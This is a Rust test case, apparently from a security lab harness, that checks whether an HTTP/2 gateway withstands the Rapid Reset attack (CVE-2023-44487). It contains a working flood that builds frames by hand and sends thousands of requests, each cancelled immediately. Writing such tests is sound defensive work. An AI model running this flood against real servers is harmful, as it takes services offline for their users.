//! HTTP/2 requests that are taken back as soon as they are made (CVE-2023-44487), frames made by hand (RFC 9113 section 4.1).

use std::io::{ErrorKind, Read, Write};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Result, bail, ensure};
use ringmail_model::defence::Defence;

use crate::case::{Case, Claimed, Row, Switch, Trial};
use crate::client::{Client, Connection};
use crate::domain;
use crate::lab::{Lab, PATIENCE};

pub(super) const CASES: &[Case] = &[Case {
    attack: "requests-made-and-taken-back",
    row: Row::Availability,
    claimed: Claimed::Always,
    given: &[],
    switch: Some(Switch::Off(&[Defence::CancelledRequests])),
    expected: "who makes HTTP/2 requests and takes them back at once loses the connection, and others are served meanwhile",
    run,
}];

/// How many are taken back, in parts: far more than the gateway puts up with.
const PARTS: u32 = 20;
const IN_A_PART: u32 = 100;

/// RFC 9113 sections 3.4, 6.2, 6.4, 6.5, 6.7 and 6.8.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const ACK: u8 = 0x1;
const CANCEL: u32 = 8;

/// A connection of HTTP/2.
struct Http2 {
    connection: Connection,
    came: Vec<u8>,
    next: u32,
}

/// What came in a frame.
struct Frame {
    kind: u8,
    flags: u8,
    stream: u32,
}

impl Http2 {
    fn open(lab: &Lab, client: &Client) -> Result<Http2> {
        let mut tls = (*client.tls).clone();
        tls.alpn_protocols = vec![b"h2".to_vec()];
        let connection = lab.connect(&Client { tls: Arc::new(tls), ..client.clone() })?;
        let mut http = Http2 { connection, came: Vec::new(), next: 1 };
        http.send(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &frame(SETTINGS, ACK, 0, &[])].concat())?;
        Ok(http)
    }

    fn send(&mut self, bytes: &[u8]) -> Result<()> {
        self.connection.stream.write_all(bytes)?;
        Ok(self.connection.stream.flush()?)
    }

    /// The frames of a request for a page, and its stream.
    fn request(&mut self) -> (u32, Vec<u8>) {
        let text = |name: u8, value: &str| {
            [&[name, value.len() as u8], value.as_bytes()].concat() // RFC 7541 section 6.2.2, fewer than 127 bytes
        };
        // GET, https, a path, an authority, by their numbers in HPACK's static table.
        let block = [vec![0x82, 0x87], text(4, "/public/page"), text(1, domain::WWW)].concat();
        let stream = self.next;
        self.next += 2;
        (stream, frame(HEADERS, END_STREAM | END_HEADERS, stream, &block))
    }

    /// The next frame, if one comes within this time; an error when the gateway has ended the connection.
    fn frame(&mut self, within: Duration) -> Result<Option<Frame>> {
        let until = Instant::now() + within;
        loop {
            if let Some((head, rest)) = self.came.split_first_chunk::<9>() {
                let len =
                    usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
                if rest.len() >= len {
                    let stream = u32::from_be_bytes([head[5] & 0x7f, head[6], head[7], head[8]]);
                    let found = Frame { kind: head[3], flags: head[4], stream };
                    self.came.drain(..9 + len);
                    ensure!(found.kind != GOAWAY, "the gateway ends the connection with a GOAWAY");
                    return Ok(Some(found));
                }
            }
            let left = until.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return Ok(None);
            }
            self.connection.stream.sock.set_read_timeout(Some(left))?;
            let mut buffer = [0; 4096];
            match self.connection.stream.read(&mut buffer) {
                Ok(0) => bail!("the gateway ends the connection"),
                Ok(len) => self.came.extend_from_slice(&buffer[..len]),
                Err(error)
                    if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                Err(error) => return Err(error.into()),
            }
        }
    }

    /// A request, and its whole answer.
    fn get(&mut self) -> Result<()> {
        let (stream, bytes) = self.request();
        self.send(&bytes)?;
        let until = Instant::now() + PATIENCE;
        while Instant::now() < until {
            match self.frame(PATIENCE)? {
                Some(frame) if frame.stream == stream && frame.kind == RST_STREAM => break,
                Some(frame) if frame.stream == stream => {
                    ensure!(frame.kind == HEADERS || frame.kind == DATA, "a strange answer");
                    if frame.flags & END_STREAM != 0 {
                        return Ok(());
                    }
                }
                _ => {}
            }
        }
        bail!("a request is not answered")
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Makes requests and takes them back, until all are sent or the gateway has enough.
fn flood(http: &mut Http2, lab: &Lab, honest: &Client, served: &mut bool) -> Result<()> {
    for _ in 0..PARTS {
        let mut all = Vec::new();
        for _ in 0..IN_A_PART {
            let (stream, request) = http.request();
            all.extend(request);
            all.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
        }
        http.send(&all)?;
        *served &= lab.get(honest, "/meanwhile").is_ok_and(|status| status == 200);
        while http.frame(Duration::from_millis(1))?.is_some() {}
    }
    // Whoever is still heard has lost nothing.
    http.get()
}

fn run(lab: &mut Lab) -> Result<Trial> {
    let (mallory, alice) = (lab.client("mallory")?, lab.client("alice")?);
    lab.control(&alice, "/")?;
    let mut http = Http2::open(lab, &mallory)?;
    http.get()?;
    let mut served = true;
    let flooded = flood(&mut http, lab, &alice, &mut served);
    let others = if served { "served" } else { "not served" };
    let observed = match &flooded {
        Ok(()) => {
            format!("{} requests are taken back, and the next is answered", PARTS * IN_A_PART)
        }
        Err(error) => format!("{error:#}"),
    };
    Ok(Trial::of(flooded.is_ok() || !served, format!("{observed}; another client is {others}")))
}
